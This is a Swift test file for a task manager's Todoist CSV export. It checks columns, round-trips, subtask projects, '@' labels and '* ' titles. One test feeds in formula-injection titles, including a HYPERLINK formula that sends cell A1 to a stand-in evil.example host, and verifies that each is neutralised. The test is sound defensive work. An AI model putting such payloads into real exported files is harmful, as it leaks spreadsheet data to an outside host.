import Testing
import TaskDraftKit
import TaskDraftModels
import HostileSamples
@testable import TaskDraftCLI

/// `export --format todoist` writes what Todoist's CSV holds so that `import` reads it back as
/// the same tasks, and writing those again gives the same bytes.
@Suite struct TodoistExportTests {
    static let zone = Zone.named("Europe/Moscow")!
    static func at(_ day: Int, _ hour: Int, _ minute: Int = 0, offset: Int = 3 * 3600) -> Due {
        .dateTime(ZonedDateTime(local: LocalDateTime(date: CivilDate(year: 2026, month: 12, day: day),
                                                     time: LocalTime(hour: hour, minute: minute)), offset: offset))
    }

    /// A tree three levels deep in a project, each priority level, a due as a day, as a time in
    /// the session's zone and in another whole-hour offset, notes (one with a comma and a line
    /// break, one with quotes, one dated between minutes),
    /// a repeat rule, estimates, and a done and a deleted task (which Todoist's CSV does not hold).
    static let tasks: [Task] = [
        Task(id: 1, uuid: "move", title: "Move the office", notes: "Two floors, one lift\nand a ramp", priority: .high,
             project: "Office", tags: ["work"], due: at(11, 15), createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0),
             estimate: Estimate(seconds: 6 * 3600),
             annotations: [Annotation(entry: Instant(seconds: 1_796_194_807), text: "Called the landlord, \"no answer\""),
                           Annotation(entry: Instant(seconds: 1_796_198_400), text: "=SUM(A1) is not a formula here")]),
        Task(id: 2, uuid: "pack", title: "Pack the books", priority: .medium, project: "Office",
             due: .date(CivilDate(year: 2026, month: 12, day: 9)), createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0),
             estimate: Estimate(seconds: 90 * 60), parent: "move"),
        Task(id: 3, uuid: "label", title: "Label the boxes", priority: .low, project: "Office",
             createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0), parent: "pack"),
        Task(id: 4, uuid: "almaty", title: "Call the Almaty office", due: at(5, 9, 30, offset: 5 * 3600),
             createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0)),
        Task(id: 5, uuid: "standup", title: "Stand-up", tags: ["team", "daily"], due: at(7, 10),
             recurrence: Recurrence(frequency: .weekly, byDay: [.init(weekday: .monday), .init(weekday: .wednesday), .init(weekday: .friday)]),
             createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0)),
        Task(id: 6, uuid: "done", title: "Book flights", status: .done, createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0)),
        Task(id: 7, uuid: "gone", title: "Old idea", status: .deleted, createdAt: Instant(seconds: 0),
             modifiedAt: Instant(seconds: 0), parent: "move"),
        Task(id: 8, uuid: "tax", title: "File the tax return", project: "Home", createdAt: Instant(seconds: 0),
             modifiedAt: Instant(seconds: 0)),
    ]

    static func write(_ tasks: [Task]) throws -> String {
        try export(tasks).text
    }

    /// The file the Todoist writer writes for `tasks`, and what it counted as left out.
    static func export(_ tasks: [Task]) throws -> (text: String, leftOut: ExportLeftOut.Counts) {
        var writer = TodoistFormat().writer(for: ExportScope(zone: zone) { nil })
        let bytes = try written { out in
            writer.begin(out)
            for task in tasks { writer.write(task, out) }
            writer.end(out)
        }
        return (String(decoding: bytes, as: UTF8.self), writer.leftOut)
    }

    /// What `import` stores from `text`: each record drafted by the built-in backend, as `import` drafts it.
    static func read(_ text: String) throws -> [Task] {
        let file = try InputFile(text, name: "todoist.csv")
        let items = Fixtures.read(try TodoistFormat().reader(try file.source(), zone: zone, now: Fixtures.context.now))
        #expect(Fixtures.problems(items).isEmpty, "\(Fixtures.problems(items).map(\.message))")
        let drafter = RecordDrafter(model: BuiltinModel(), context: Fixtures.context)
        return try Fixtures.records(items).enumerated().map { index, source in
            guard case .record(let record) = drafter.outcome(source, drafted: drafter.draftText(of: source)) else {
                throw Failure.notARecord(source.line)
            }
            #expect(record.kept == 0, "line \(source.line) kept \(record.draft.notes ?? "")")
            return record.task(uuid: record.uuid ?? "row-\(index)", now: Fixtures.context.now)
        }
    }

    enum Failure: Error { case notARecord(Int) }

    @Test func theColumnsAreTodoistsAndEachCellItsValue() throws {
        let text = try Self.write(Self.tasks)
        #expect(text == """
            TYPE,CONTENT,DESCRIPTION,PRIORITY,INDENT,AUTHOR,RESPONSIBLE,DATE,DATE_LANG,TIMEZONE,DURATION,DURATION_UNIT\r
            task,Call the Almaty office,,4,1,,,2026-12-05 09:30,en,Etc/GMT-5,,\r
            task,Stand-up @team @daily,,4,1,,,"2026-12-07 10:00 every Monday, Wednesday and Friday",en,Europe/Moscow,,\r
            section,Office,,,,,,,,,,\r
            task,Move the office @work,,1,1,,,2026-12-11 15:00,en,Europe/Moscow,360,minute\r
            note,"Called the landlord, ""no answer""\",,,,,,2026-12-02 10:00:07,,Europe/Moscow,,\r
            note,'=SUM(A1) is not a formula here,,,,,,2026-12-02 11:00,,Europe/Moscow,,\r
            note,"Two floors, one lift
            and a ramp",,,,,,1970-01-01 03:00,,Europe/Moscow,,\r
            task,Pack the books,,2,2,,,2026-12-09,en,Europe/Moscow,90,minute\r
            task,Label the boxes,,3,3,,,,,,,\r
            section,Home,,,,,,,,,,\r
            task,File the tax return,,4,1,,,,,,,\r

            """)
    }

    @Test func exportImportExportIsIdenticalAndEveryValueComesBack() throws {
        let first = try Self.write(Self.tasks)
        let read = try Self.read(first)
        #expect(try Self.write(read) == first)
        let byTitle = Dictionary(uniqueKeysWithValues: read.map { ($0.title, $0) })
        let open = Self.tasks.filter { $0.status == .pending }
        #expect(Set(read.map(\.title)) == Set(open.map(\.title)))
        for task in open {
            let back = try #require(byTitle[task.title])
            #expect(back.priority == task.priority, "\(task.title)")
            #expect(back.tags == task.tags, "\(task.title)")
            // Each note on its own, with the moment it was written.
            #expect(back.annotations == task.annotations, "\(task.title)")
            #expect(back.due == task.due, "\(task.title)")
            #expect(back.recurrence == task.recurrence, "\(task.title)")
            #expect(back.estimate == task.estimate, "\(task.title)")
            #expect(back.project == task.project, "\(task.title)")
            // The tree: each step under the same parent, named by title.
            let parentTitle = task.parent.flatMap { uid in Self.tasks.first { $0.uuid == uid }?.title }
            #expect(back.parent.flatMap { uid in read.first { $0.uuid == uid }?.title } == parentTitle, "\(task.title)")
        }
    }

    /// Titles, a project, a tag and notes a stranger writes to run in a spreadsheet. Todoist's
    /// import takes CONTENT as text, but the file is a CSV a person opens in a spreadsheet to look
    /// over or edit first, as Todoist's help asks of its template: no cell there starts like a
    /// formula (a `'` before it, as `export --format csv` writes: `SpreadsheetFormulaGuard`), and
    /// `import` takes that `'` off again, so each comes back exactly and the bytes are the same.
    @Test func noCellRunsAsAFormulaAndEachComesBackAsWritten() throws {
        let titles = [#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#, "+cmd", "-2+3", "'=already quoted", "''+twice",
                      "'plain quote", "a=b"]
        let tasks = titles.enumerated().map { index, title in
            Task(id: Int64(index + 1), uuid: "t\(index)", title: title, project: index == 1 ? "-Office" : nil,
                 tags: index == 2 ? ["=eq", "@at"] : [], createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0),
                 annotations: index == 0 ? [Annotation(entry: Instant(seconds: 1_796_194_800), text: "=1+1"),
                                            Annotation(entry: Instant(seconds: 1_796_198_400), text: "@SUM(A1)\n-2")] : [])
        }
        let text = try Self.write(tasks)
        let rows = SpreadsheetCells.rows(text)
        #expect(rows.count == 1 + titles.count + 2 + 1, "the header, a row a task, two notes and a section")
        for cell in rows.joined() { #expect(!SpreadsheetCells.runsAsAFormula(cell), "\(cell.debugDescription)") }
        #expect(rows.contains { $0[0] == "task" && $0[1] == #"'=HYPERLINK("http://evil.example/?"&A1,"Click")"# })
        #expect(rows.contains { $0[0] == "task" && $0[1] == "'''+twice" } && rows.contains { $0[0] == "task" && $0[1] == "'plain quote" })
        #expect(rows.contains { $0 == ["section", "'-Office", "", "", "", "", "", "", "", "", "", ""] })
        let read = try Self.read(text)
        #expect(try Self.write(read) == text)
        let byTitle = Dictionary(uniqueKeysWithValues: read.map { ($0.title, $0) })
        for task in tasks {
            let back = try #require(byTitle[task.title], "\(task.title) in \(read.map(\.title))")
            #expect(back.project == task.project && back.tags == task.tags && back.annotations == task.annotations, "\(task.title)")
        }
    }

    /// A tree of tasks numbered from 1, each with its project and the number of its parent, and
    /// the tasks whose project the file cannot keep.
    struct SubtaskProjectRow: Sendable, CustomTestStringConvertible {
        let tree: [(project: String?, parent: Int?)]
        let moved: Set<Int>
        var testDescription: String { tree.map { "\($0.project ?? "-")<\($0.parent.map(String.init) ?? "")" }.joined(separator: " ") }

        var tasks: [Task] {
            tree.enumerated().map { index, task in
                Task(id: Int64(index + 1), uuid: "u\(index + 1)", title: "Task \(index + 1)", project: task.project,
                     createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0), parent: task.parent.map { "u\($0)" })
            }
        }

        /// The project each task is in as a person reads the tree: its own, or its parent's.
        func projectInTree(_ number: Int) -> String? {
            let task = tree[number - 1]
            return task.project ?? task.parent.flatMap(projectInTree)
        }
    }

    /// A tree is written in its top task's section, and `import` gives each task that section's
    /// project: a subtask with a project of its own other than that one (or in a tree with none)
    /// comes back in another, and is counted (`subtaskProjects`) and said; a subtask with no
    /// project of its own is in its parent's and comes back there, so it is counted only when its
    /// parent's moves. Each row's count is checked against what `import` gives back.
    @Test(arguments: [
        SubtaskProjectRow(tree: [("Office", nil), (nil, 1)], moved: []),
        SubtaskProjectRow(tree: [("Office", nil), ("Office", 1)], moved: []),
        SubtaskProjectRow(tree: [("Office", nil), (nil, 1), (nil, 2)], moved: []),
        SubtaskProjectRow(tree: [(nil, nil), (nil, 1)], moved: []),
        SubtaskProjectRow(tree: [("Office", nil), ("Home", 1)], moved: [2]),
        SubtaskProjectRow(tree: [(nil, nil), ("Garden", 1)], moved: [2]),
        SubtaskProjectRow(tree: [("Office", nil), ("Home", 1), ("Home", 2)], moved: [2, 3]),
        SubtaskProjectRow(tree: [("Office", nil), ("Home", 1), (nil, 2)], moved: [2, 3]),
        SubtaskProjectRow(tree: [("Office", nil), (nil, 1), ("Home", 2), (nil, 1)], moved: [3]),
    ])
    func aSubtaskIsCountedWhenItsProjectComesBackAnother(row: SubtaskProjectRow) throws {
        let leftOut = try Self.export(row.tasks).leftOut
        #expect(leftOut.subtaskProjects == row.moved.count)
        #expect(leftOut.messages(format: "todoist") == (row.moved.isEmpty ? [] : [.subtaskProjects(format: "todoist", row.moved.count)]))
        let back = Dictionary(uniqueKeysWithValues: try Self.read(try Self.write(row.tasks)).map { ($0.title, $0.project) })
        for number in row.tree.indices.map({ $0 + 1 }) {
            #expect((back["Task \(number)"] != row.projectInTree(number)) == row.moved.contains(number), "task \(number): \(back)")
        }
    }

    /// A title word starting with "@" is a label to Todoist, as to `import` (`TodoistContent`), and
    /// Todoist has no escape for it, so such a title comes back without the word and with a tag:
    /// each is counted (`titleLabels`) and said. An "@" inside a word (an address) or alone is title
    /// text, and is not counted.
    @Test func aTitleWordTodoistReadsAsALabelIsCounted() throws {
        let titles = ["Email @bob about the invoice", "Write to anna@example.com", "Meet @ noon", "@home @office", "Plain"]
        let tasks = titles.enumerated().map { index, title in
            Task(id: Int64(index + 1), uuid: "l\(index)", title: title, createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0))
        }
        let leftOut = try Self.export(tasks).leftOut
        #expect(leftOut.titleLabels == 2, "\"@bob\" and \"@home @office\"")
        #expect(leftOut.messages(format: "todoist") == [.titleLabels(format: "todoist", 2)])
        let back = try Self.read(try Self.write(Array(tasks.prefix(3))))
        #expect(back.map(\.title) == ["Email about the invoice", "Write to anna@example.com", "Meet @ noon"], "what the count says")
        #expect(back.first?.tags == ["bob"])
    }

    /// A CONTENT starting with "* " is a task Todoist cannot complete, and Todoist has no escape
    /// for it: such a title (or a lone "*" before its tags) is written as it is, counted
    /// (`uncompletableTitles`) and said, and comes back as written; a "*" not followed by a space,
    /// or inside the title, is not counted.
    @Test func aTitleTodoistCannotCompleteIsCountedAndComesBackAsWritten() throws {
        let titles: [(title: String, tags: [String])] = [("* Groceries", []), ("*", ["home"]), ("*Bold", []), ("** Two stars", []),
                                                         ("Buy 2 * 3 m of wire", []), ("Plain", ["x"])]
        let tasks = titles.enumerated().map { index, row in
            Task(id: Int64(index + 1), uuid: "s\(index)", title: row.title, tags: row.tags, createdAt: Instant(seconds: 0),
                 modifiedAt: Instant(seconds: 0))
        }
        let (text, leftOut) = try Self.export(tasks)
        #expect(leftOut.uncompletableTitles == 2, "\"* Groceries\" and \"*\" with its tag")
        #expect(leftOut.messages(format: "todoist") == [.uncompletableTitles(format: "todoist", 2)])
        let read = try Self.read(text)
        #expect(read.map(\.title) == titles.map(\.title) && read.map(\.tags) == titles.map(\.tags), "\(read.map(\.title))")
        #expect(try Self.write(read) == text)
    }

    @Test func aLoopOfStepsIsWrittenOnceAtTheTop() throws {
        let loop = [
            Task(id: 1, uuid: "a", title: "First", createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0), parent: "b"),
            Task(id: 2, uuid: "b", title: "Second", createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0), parent: "a"),
        ]
        let rows = try Self.write(loop).split(separator: "\r\n").dropFirst()
        #expect(rows == ["task,First,,4,1,,,,,,,", "task,Second,,4,2,,,,,,,"])
        // After every tree that has a top task, whatever its project: no section is made for it.
        var inAProject = loop
        inAProject[0].project = "home"
        inAProject.append(Task(id: 3, uuid: "c", title: "Third", project: "work", createdAt: Instant(seconds: 0),
                               modifiedAt: Instant(seconds: 0)))
        let after = try Self.write(inAProject).split(separator: "\r\n").dropFirst()
        #expect(after == ["section,work,,,,,,,,,,", "task,Third,,4,1,,,,,,,", "task,First,,4,1,,,,,,,", "task,Second,,4,2,,,,,,,"])
    }
}
